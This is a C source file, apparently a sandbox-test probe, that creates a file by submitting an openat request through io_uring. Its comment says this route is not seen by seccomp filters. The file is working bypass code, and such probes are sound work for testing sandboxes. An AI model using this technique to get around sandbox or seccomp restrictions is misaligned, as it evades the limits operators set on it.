// Creates a file through io_uring, which no seccomp filter sees. Argument: FILE
#include "attack.h"
#include <linux/io_uring.h>
#include <sys/mman.h>

static void *map_ring(int ring, size_t length, unsigned long long offset) {
  void *memory = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, (off_t)offset);
  if (memory == MAP_FAILED) refused("mmap");
  return memory;
}

int main(int count, char **words) {
  attempting(count, 1);
  struct io_uring_params params = {0};
  int ring = (int)syscall(SYS_io_uring_setup, 4, &params);
  if (ring < 0) refused("io_uring_setup");
  char *submission = map_ring(ring, params.sq_off.array + params.sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
  struct io_uring_sqe *entries = map_ring(ring, params.sq_entries * sizeof *entries, IORING_OFF_SQES);
  memset(entries, 0, sizeof *entries);
  entries->opcode = IORING_OP_OPENAT;
  entries->fd = AT_FDCWD;
  entries->addr = (unsigned long)words[1];
  entries->open_flags = O_WRONLY | O_CREAT;
  entries->len = 0666;
  unsigned *array = (unsigned *)(void *)(submission + params.sq_off.array);
  unsigned *tail = (unsigned *)(void *)(submission + params.sq_off.tail);
  array[0] = 0;
  __atomic_store_n(tail, 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1) refused("io_uring_enter");
  return 0;
}
